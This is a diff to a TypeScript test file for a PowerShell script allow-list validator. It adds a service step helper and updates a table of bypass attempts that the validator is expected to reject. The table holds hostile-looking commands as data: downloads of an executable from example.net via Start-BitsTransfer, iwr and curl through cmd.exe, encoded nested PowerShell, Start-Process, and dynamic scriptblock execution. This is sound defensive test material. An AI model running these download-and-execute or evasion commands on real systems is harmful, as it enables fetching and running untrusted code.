@@ -25,6 +25,8 @@ const firewallDelete = () => {
 };
 /** The direct-mode health probe: a TcpClient to the app port on 127.0.0.1, then a TLS handshake. */
 const tlsHealth = () => step("health", stagingConfig).create;
+/** A step that ships Invoke-NovaNative (steps carry only the helpers they use). */
+const service = () => step("service", prodConfig).create;
 const CONNECT = "$client.Connect('127.0.0.1', $NovaHealthPort)";
 const HELPER_CHECK = "  if ($hash -ne $Expected) {\n    Remove-Item -LiteralPath $Path -Force\n    throw ('SHA-256 mismatch for {0}: expected {1}, got {2}' -f $Url, $Expected, $hash)\n  }\n";
 const replaced = (text: string, from: string, to: string) => {
@@ -68,7 +70,7 @@ const BYPASSES: [string, () => string, boolean, string, RegExp][] = [
     ["Start-BitsTransfer", () => `${health()}Start-BitsTransfer -Source 'https://example.net/x.exe' -Destination 'C:\\x.exe'\n`, false, "downloads-pinned-sha256", /a download \(Start-BitsTransfer\)/],
     ["& (gcm iwr)", () => `${health()}& (gcm iwr) -Uri 'https://example.net/x.exe' -OutFile 'C:\\x.exe'\n`, false, "host-script-allow-list", /runs a command only known at run time: & \(gcm iwr\)/],
     ["-EncodedCommand nested", () => `${health()}powershell.exe -NoProfile -EncodedCommand ${encoded}\n`, false, "host-script-allow-list", /runs powershell\.exe, which is not one of the allowed programs/],
-    ["Invoke-NovaNative with another program", () => `${health()}Invoke-NovaNative 'cmd.exe' @('/c', 'curl -o C:\\x.exe https://example.net/x.exe')\n`, false, "host-script-allow-list", /Invoke-NovaNative runs cmd\.exe/],
+    ["Invoke-NovaNative with another program", () => `${service()}Invoke-NovaNative 'cmd.exe' @('/c', 'curl -o C:\\x.exe https://example.net/x.exe')\n`, false, "host-script-allow-list", /Invoke-NovaNative runs cmd\.exe/],
     ["Start-Process", () => `${health()}Start-Process -FilePath 'C:\\x.exe'\n`, false, "host-script-allow-list", /runs Start-Process/],
     ["[scriptblock]::Create", () => `${health()}& ([scriptblock]::Create('Write-Output 1'))\n`, false, "host-script-allow-list", /uses the \.NET type scriptblock/],
     ["$ExecutionContext.InvokeCommand.InvokeScript", () => `${health()}$ExecutionContext.InvokeCommand.InvokeScript('Write-Output 1') | Out-Null\n`, false, "host-script-allow-list", /uses \$ExecutionContext\.InvokeCommand/],
